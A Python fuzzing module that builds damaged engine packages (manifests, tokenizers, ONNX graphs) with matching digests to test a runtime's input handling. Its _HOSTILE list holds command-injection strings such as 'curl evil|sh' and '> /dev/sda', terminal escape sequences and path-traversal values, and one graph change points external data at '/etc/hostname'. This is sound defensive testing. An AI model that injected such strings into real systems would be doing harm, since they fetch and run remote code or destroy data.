"""Damaged engines: a manifest or tokenizer with odd values, graphs with damaged bytes, their digests made to fit."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from random import Random
from typing import Any

from fuzzing import mutate, seeds
from fuzzing.case import Case

_ODD: tuple[Any, ...] = (
    None, True, False, -1, 0, 1, 2, 31, 2**31, 2**63, 10**400, 1.5, -0.0, 1e308, float("nan"), float("inf"), "", "x",
    "fp64", "../x", "a\0b", "onnxruntime", "tensorrt", "tensorrt-rtx", "9.9", "\ud800", "a\nb", "a" * 3000, [], [1],
    [1, 2, 3], [[]], {}, {"a": 1}, {"": None}, [None, None], [-1e308, 1e308], ["a", "b"], {"../../x": "y"},
    [10**400, 10**401],
)  # fmt: skip


def engine_case(seed: int, index: int) -> Case:
    """Number `index` of a run: of ten, five have a damaged manifest, three a damaged tokenizer, two a damaged graph."""
    rng, case = Random(f"engine {seed} {index}"), seeds.engine_seed()
    damaged = index % 10
    if damaged < 5:
        return _with_manifest(case, rng)
    name = "tokenizer.json" if damaged < 8 else rng.choice(("text.onnx", "image.onnx"))
    return _with_file(case, name, rng)


def _path(case: Case, name: str) -> str:
    return f"{case.entry}/{name}"


def _with_manifest(case: Case, rng: Random) -> Case:
    data = case.files[_path(case, "manifest.json")]
    if rng.random() < 0.15:
        return case.with_file(_path(case, "manifest.json"), rng.choice((mutate.damage, odd_json_text))(data, rng))
    values = json.loads(data)
    if rng.random() < 0.2:
        # Other fields are looked at then.
        values["backend"] = rng.choice(("tensorrt", "tensorrt-rtx"))
    for _ in range(rng.choice((1, 1, 2, 3))):
        change_json(values, rng)
    return case.with_file(_path(case, "manifest.json"), _sealed(values, keep=rng.random() < 0.1))


# What somebody would write who wants a reader to run it, or its terminal to obey it.
_HOSTILE: tuple[Any, ...] = (
    "none; curl evil|sh", "$(curl evil)", "`curl evil`", "fp16 && curl evil", "\x1b[2J\x1b]0;owned\x07", "a\rb",
    "\u202egpj", "int8\n", "sm_86 | sh", "10.3.0.26; sh", "Linux x86_64 > /dev/sda", "\x9b2J", "\x00", "sha256:0",
)  # fmt: skip


def hostile_manifest(seed: dict[str, Any], rng: Random) -> bytes:
    """A manifest whose digest fits, with one to three values that are hostile or merely odd."""
    values = copy.deepcopy(seed)
    for _ in range(rng.choice((1, 1, 2, 3))):
        where, key = rng.choice(_places(values))
        if rng.random() < 0.5:
            where[key] = rng.choice(_HOSTILE)
        elif rng.random() < 0.3 and isinstance(where, dict):
            where[rng.choice(_HOSTILE)] = rng.choice(_HOSTILE)
        else:
            change_json(values, rng)
    return _sealed(values)


def _with_file(case: Case, name: str, rng: Random) -> Case:
    data = case.files[_path(case, name)]
    change: Callable[[bytes, Random], bytes] = mutate.damage
    if name == "tokenizer.json" and rng.random() < 0.8:
        change = odd_tokenizer
    elif name.endswith(".onnx") and rng.random() < 0.5:
        change = odd_graph
    data = change(data, rng)
    # The digest tells.
    if rng.random() < 0.05:
        return case.with_file(_path(case, name), data)
    return with_engine_file(case, name, data)


def with_engine_file(case: Case, name: str, data: bytes) -> Case:
    """The engine with another file, and with its digest in the manifest; or with another manifest, as it is."""
    from lsms_rt.digest import sha256

    if name == "manifest.json":
        return case.with_file(_path(case, name), data)
    values = json.loads(case.files[_path(case, "manifest.json")])
    values["files"][name] = sha256(data)
    return case.with_file(_path(case, name), data).with_file(_path(case, "manifest.json"), _sealed(values))


def _sealed(values: Any, keep: bool = False) -> bytes:
    """A manifest's text, with the digest that its reader will find, so that its values are looked at."""
    from lsms_rt.engine.manifest import fields_digest

    if isinstance(values, dict) and not keep:
        values["manifest_digest"] = fields_digest(values)
    return json.dumps(values).encode()


def odd_tokenizer(data: bytes, rng: Random) -> bytes:
    values = json.loads(data)
    for _ in range(rng.choice((1, 1, 2, 3))):
        change_json(values, rng)
    return json.dumps(values).encode()


def odd_json_text(data: bytes, rng: Random) -> bytes:
    """What a JSON parser may stumble over."""
    return rng.choice(
        (b"[" * 100_000, b'{"a":' * 100_000, b"9" * 5000, b"", b"null", b"[]", b'{"format": 1e999}', b"\xff\xfe{}",
         b'{"format": ' + b"9" * 5000 + b"}", data * 2, data.replace(b'"', b"'"), b"\xef\xbb\xbf" + data, b'"\\ud800"',
         b'{"format": -1}', b'{"format": true}', b'{"format": 2}')
    )  # fmt: skip


def _odd(rng: Random) -> Any:
    """A copy: the next change may be inside of it."""
    return copy.deepcopy(rng.choice(_ODD))


def change_json(values: Any, rng: Random) -> None:
    """Somewhere in nested dicts and lists: another value, one that is gone, one more, or two exchanged."""
    places = _places(values)
    where, key = rng.choice(places)
    what = rng.random()
    if what < 0.6:
        where[key] = _odd(rng)
    elif what < 0.75:
        del where[key]
    elif what < 0.85:
        other, name = rng.choice(places)
        if name in other if isinstance(other, dict) else name < len(other):
            where[key] = json.loads(json.dumps(other[name]))
    elif isinstance(where, dict):
        where[rng.choice(("x", "", "a\0b", "\ud800", "../y", "type", "files", "format"))] = _odd(rng)
    else:
        where.append(_odd(rng))


def _places(values: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) below; a vocabulary counts a few times only, or nothing else would be changed."""
    found: list[tuple[Any, Any]] = []
    keys = list(values) if isinstance(values, dict) else list(range(len(values)))
    for key in keys if len(keys) <= 50 else [*keys[:4], *keys[-2:]]:
        found.append((values, key))
        if isinstance(values[key], (dict, list)) and values[key]:
            found += _places(values[key])
    return found


def odd_graph(data: bytes, rng: Random) -> bytes:
    """A valid protobuf of a graph that is none: renamed tensors, other shapes, types, operators and attributes."""
    import onnx

    model = onnx.load_from_string(data)
    for _ in range(rng.choice((1, 1, 2))):
        rng.choice(_GRAPH_CHANGES)(model.graph, rng)
    if rng.random() < 0.1:
        model.opset_import[0].version = rng.choice((0, 1, 7, 18, 99, -1))
    out: bytes = model.SerializeToString()
    return out


def _rename(graph: Any, rng: Random) -> None:
    value = rng.choice([*graph.input, *graph.output])
    value.name = rng.choice(("x", "", "logits", "mask", "keys1", "a" * 2000, "a\nb"))


def _reshape(graph: Any, rng: Random) -> None:
    value = rng.choice([*graph.input, *graph.output]).type.tensor_type
    if value.shape.dim and rng.random() < 0.7:
        rng.choice(value.shape.dim).dim_value = rng.choice((0, -1, 1, 2, 7, 2**40))
    else:
        value.elem_type = rng.choice((0, 1, 2, 6, 7, 8, 9, 10, 16, 99))


def _change_node(graph: Any, rng: Random) -> None:
    node = rng.choice(graph.node)
    what = rng.random()
    if what < 0.4:
        node.op_type = rng.choice(
            ("Identity", "Add", "Conv", "Loop", "If", "Gather", "Reshape", "Tile", "Resize", "Nope")
        )
    elif what < 0.6 and node.input:
        node.input[rng.randrange(len(node.input))] = rng.choice(("image", "mask", "nothing", "", "logits", "table"))
    elif what < 0.75 and node.attribute:
        rng.choice(node.attribute).i = rng.choice((-1, 0, 2**62, 5))
    elif what < 0.9:
        graph.node.remove(node)
    else:
        node.domain = rng.choice(("x", "com.microsoft", "ai.onnx.ml"))


def _change_constant(graph: Any, rng: Random) -> None:
    constant = rng.choice(graph.initializer)
    what = rng.randrange(4)
    if what == 0:
        constant.dims[:] = rng.choice(([0], [2**40], [-1], [1, 1], [2**31, 2**31], []))
    elif what == 1:
        constant.raw_data = rng.choice((b"", b"\xff" * 8, constant.raw_data[:4], constant.raw_data * 2))
    elif what == 2:
        constant.data_type = rng.choice((0, 1, 7, 8, 10, 99))
    else:
        constant.data_location = 1
        entry = constant.external_data.add()
        entry.key, entry.value = "location", rng.choice(("/etc/hostname", "../x", "text.onnx", "", "/dev/zero"))


_GRAPH_CHANGES = (_rename, _reshape, _change_node, _change_node, _change_constant)
